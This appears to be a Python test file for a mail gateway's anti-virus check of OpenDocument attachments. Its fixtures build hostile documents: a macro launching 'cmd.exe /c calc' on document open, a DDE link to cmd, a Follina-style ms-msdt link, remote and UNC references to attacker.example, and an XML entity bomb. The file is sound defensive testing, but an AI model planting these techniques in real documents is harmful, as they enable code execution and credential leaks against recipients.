"""OpenDocument packages: macros, macros on events, embedded OLE objects, external links, DDE.

Documents are built here with zipfile (what LibreOffice writes, cut to the parts that matter)
or read from oletools' test data (ODF files with an embedded OLE package); the last tests run
them through the real Office engine and the anti-virus agent, whose actions are settable.
"""

from __future__ import annotations

import asyncio
import io
import zipfile
from email.message import EmailMessage

import olefile

from edgeward.config.antivirus import AntivirusConfig
from edgeward.config.schema import ReceiveConnectorConfig
from edgeward.filters.agents.antivirus import Antivirus
from edgeward.filters.base import SessionInfo, Stage, StageContext
from edgeward.filters.message import MessageView
from edgeward.headers import parse_headers
from edgeward.ports import ScanItem
from edgeward.scanning.odf import inspect_odf, is_odf_package
from edgeward.scanning.office import OfficeEngine
from edgeward.scanning.office_analysis import analyze
from edgeward.scanning.policy import Engine, MultiEnginePolicy
from edgeward.types import Action, Peer
from tests.scanning.office_samples import sample

NS = (
    'xmlns:office="urn:oasis:names:tc:opendocument:xmlns:office:1.0"'
    ' xmlns:text="urn:oasis:names:tc:opendocument:xmlns:text:1.0"'
    ' xmlns:table="urn:oasis:names:tc:opendocument:xmlns:table:1.0"'
    ' xmlns:draw="urn:oasis:names:tc:opendocument:xmlns:drawing:1.0"'
    ' xmlns:script="urn:oasis:names:tc:opendocument:xmlns:script:1.0"'
    ' xmlns:xlink="http://www.w3.org/1999/xlink"'
)
MANIFEST = (
    '<manifest:manifest xmlns:manifest="urn:oasis:names:tc:opendocument:xmlns:manifest:1.0">'
    '<manifest:file-entry manifest:full-path="/"'
    ' manifest:media-type="application/vnd.oasis.opendocument.text"/>'
    "</manifest:manifest>"
)
ON_LOAD = (
    '<office:event-listeners><script:event-listener script:language="ooo:script" script:event-name="dom:load"'
    ' xlink:href="vnd.sun.star.script:Standard.Module1.Main?language=Basic&amp;location=document"/>'
    "</office:event-listeners>"
)
BASIC = (
    '<script:module xmlns:script="http://openoffice.org/2000/script" script:name="Module1"'
    ' script:language="StarBasic">Sub Main\n  Shell("cmd.exe /c calc", 1)\nEnd Sub\n</script:module>'
)


def odf(
    body: str = "<text:p>hello</text:p>", head: str = "", parts: dict[str, bytes | str] | None = None
) -> bytes:
    buf = io.BytesIO()
    with zipfile.ZipFile(buf, "w") as z:
        z.writestr("mimetype", "application/vnd.oasis.opendocument.text")
        z.writestr("META-INF/manifest.xml", MANIFEST)
        z.writestr(
            "content.xml",
            f'<?xml version="1.0"?><office:document-content {NS}>{head}'
            f"<office:body><office:text>{body}</office:text></office:body></office:document-content>",
        )
        for name, data in (parts or {}).items():
            z.writestr(name, data)
    return buf.getvalue()


def found(data: bytes) -> set[tuple[str, str]]:
    return set(analyze(data, "doc.odt"))


def names(data: bytes) -> set[str]:
    return {n for n, _ in found(data)}


def test_a_plain_document_has_nothing_to_say() -> None:
    assert found(odf()) == set()
    with zipfile.ZipFile(io.BytesIO(odf())) as zf:
        assert is_odf_package(zf)


def test_a_plain_zip_is_no_opendocument() -> None:
    buf = io.BytesIO()
    with zipfile.ZipFile(buf, "w") as z:
        z.writestr("mimetype", "text/plain")
        z.writestr("content.xml", "<x/>")
    with zipfile.ZipFile(buf) as zf:
        assert not is_odf_package(zf)
    assert found(buf.getvalue()) == set()


def test_basic_macros_are_reported_with_their_keywords() -> None:
    data = odf(parts={"Basic/Standard/Module1.xml": BASIC, "Basic/Standard/script-lb.xml": "<library/>"})
    result = found(data)
    assert ("AV_MACRO", "odf-basic:Basic/Standard/Module1.xml") in result
    assert ("AV_MACRO_SUSPICIOUS", "Shell") in result
    # The library index is no module.
    assert not any("script-lb" in s for _, s in result)


def test_a_macro_bound_to_opening_the_document_runs_by_itself() -> None:
    data = odf(head=ON_LOAD, parts={"Basic/Standard/Module1.xml": BASIC})
    result = found(data)
    signature = (
        "odf-event:dom:load vnd.sun.star.script:Standard.Module1.Main?language=Basic&location=document"
    )
    assert ("AV_MACRO_AUTOEXEC", signature) in result
    # A macro on a button is a macro, not an automatic one.
    button = ON_LOAD.replace("dom:load", "dom:click")
    assert names(odf(head=button)) == {"AV_MACRO"}


def test_other_script_languages_count_as_macros() -> None:
    assert names(odf(parts={"Scripts/python/run.py": "import os\nos.system('calc')\n"})) == {"AV_MACRO"}


def test_remote_sections_objects_and_url_handlers_are_external_references() -> None:
    section = '<text:section text:name="s"><text:section-source xlink:href="http://attacker.example/a.odt"/></text:section>'
    assert ("AV_EXTERNAL_REFERENCE", "section-source:http://attacker.example/a.odt") in found(odf(section))
    follina = '<text:a xlink:href="ms-msdt:/id PCWDiagnostic /skip force">x</text:a>'
    assert ("AV_EXTERNAL_REFERENCE", "a:ms-msdt:/id PCWDiagnostic /skip force") in found(odf(follina))
    leak = '<draw:frame><draw:image xlink:href="\\\\attacker.example\\share\\x.png"/></draw:frame>'
    assert names(odf(leak)) == {"AV_EXTERNAL_REFERENCE"}
    # An ordinary web link and a picture stored in the package are document content.
    ordinary = '<text:a xlink:href="https://example.org/">x</text:a><draw:image xlink:href="Pictures/1.png"/>'
    assert found(odf(ordinary)) == set()


def test_dde_links_name_the_program() -> None:
    head = (
        "<text:dde-connection-decls><text:dde-connection-decl text:name='c' office:dde-application='cmd'"
        " office:dde-topic=\"/c calc\" office:dde-item='x'/></text:dde-connection-decls>"
    )
    assert ("AV_DDE", "odf-dde:cmd /c calc") in found(odf(head=head))


def test_an_embedded_ole_object_and_the_package_inside_it() -> None:
    for ext in ("odt", "ods", "odp"):
        result = found(sample(f"oleobj/embedded-simple-2007.{ext}"))
        assert ("AV_OLE_OBJECT", "odf-object:Object 1 0003000C-0000-0000-C000-000000000046") in result
        assert ("AV_OLE_OBJECT", "package:simple-text-file.txt") in result


def test_vba_inside_an_embedded_ole_object_is_found() -> None:
    # An Excel workbook with macros, embedded as "Object 1" of a text document.
    workbook = sample("excel4-macros/excel4_sample_macro.xls")
    assert olefile.isOleFile(workbook)
    result = names(
        odf(
            '<draw:frame><draw:object-ole xlink:href="./Object 1"/></draw:frame>',
            parts={"Object 1": workbook},
        )
    )
    assert {"AV_OLE_OBJECT", "AV_XLM_MACRO"} <= result


def test_hostile_xml_gives_no_findings_and_no_crash() -> None:
    bomb = (
        '<?xml version="1.0"?><!DOCTYPE l [<!ENTITY a "aaaaaaaaaa"><!ENTITY b "&a;&a;&a;&a;&a;&a;&a;&a;">'
        '<!ENTITY c "&b;&b;&b;&b;&b;&b;&b;&b;">]><office:document-content '
        + NS
        + ">&c;</office:document-content>"
    )
    buf = io.BytesIO()
    with zipfile.ZipFile(buf, "w") as z:
        z.writestr("mimetype", "application/vnd.oasis.opendocument.text")
        z.writestr("META-INF/manifest.xml", MANIFEST)
        z.writestr("content.xml", bomb)
    assert found(buf.getvalue()) == set()
    with zipfile.ZipFile(buf) as zf:
        assert inspect_odf(zf).unreadable == ["content.xml"]


def test_a_password_protected_document_is_encrypted() -> None:
    manifest = MANIFEST.replace(
        "</manifest:manifest>",
        '<manifest:file-entry manifest:full-path="content.xml" manifest:media-type="text/xml">'
        '<manifest:encryption-data manifest:checksum-type="SHA1/1K" manifest:checksum="x">'
        '<manifest:algorithm manifest:algorithm-name="Blowfish CFB" manifest:initialisation-vector="y"/>'
        "</manifest:encryption-data></manifest:file-entry></manifest:manifest>",
    )
    buf = io.BytesIO()
    with zipfile.ZipFile(buf, "w") as z:
        z.writestr("mimetype", "application/vnd.oasis.opendocument.text")
        z.writestr("META-INF/manifest.xml", manifest)
        z.writestr("content.xml", bytes(range(256)) * 4)  # ciphertext
    assert found(buf.getvalue()) == {("ARCHIVE_ENCRYPTED", "encrypted OpenDocument")}
    assert found(odf()) == set()


def _message(filename: str, data: bytes) -> bytes:
    msg = EmailMessage()
    msg["From"] = "sender@remote.test"
    msg["To"] = "user@example.test"
    msg["Subject"] = "minutes"
    msg.set_content("See the attachment.\n")
    msg.add_attachment(data, maintype="application", subtype="octet-stream", filename=filename)
    return msg.as_bytes().replace(b"\n", b"\r\n")


def test_the_engine_reports_a_package_once_and_its_actions_are_settable() -> None:
    data = _message("minutes.odt", odf(head=ON_LOAD, parts={"Basic/Standard/Module1.xml": BASIC}))
    view = MessageView(data, parse_headers(data))
    session = SessionInfo("s1", Peer("192.0.2.1", 1234), ReceiveConnectorConfig(name="internet"))

    async def run(office: dict[str, str]) -> tuple[Action, list[str]]:
        engine = OfficeEngine(timeout=60, workers=1)
        try:
            config = AntivirusConfig.model_validate({"enabled": True, "office": office})
            av = Antivirus(MultiEnginePolicy([Engine(engine, timeout=60)], "all"), config)
            outcome = await av.check(Stage.EOD, StageContext(Stage.EOD, session, data=data, message=view))
            return outcome.action, sorted(f.name for f in outcome.findings)
        finally:
            await engine.close()

    action, findings = asyncio.run(run({}))
    assert action is Action.REJECT
    assert findings.count("AV_MACRO_AUTOEXEC") == 1  # the parts are not analysed again one by one
    action, findings = asyncio.run(run({"vba_autoexec": "quarantine"}))
    assert action is Action.QUARANTINE
    action, findings = asyncio.run(run({"vba_autoexec": "score", "vba_suspicious": "score"}))
    assert action is Action.CONTINUE and "AV_MACRO_AUTOEXEC" in findings


def test_scan_items_of_an_odf_member_are_skipped_by_path() -> None:
    document = odf(parts={"Object 1": sample("excel4-macros/excel4_sample_macro.xls")})
    parts = [ScanItem(document, "2/doc.odt", "doc.odt"), ScanItem(b"x", "2/doc.odt!Object 1", "Object 1")]
    hits = asyncio.run(_scan(parts))
    assert hits and all(path == "2/doc.odt" for path in hits)


async def _scan(items: list[ScanItem]) -> list[str]:
    engine = OfficeEngine(timeout=60, workers=1)
    try:
        return [h.path for h in await engine.scan(items)]
    finally:
        await engine.close()
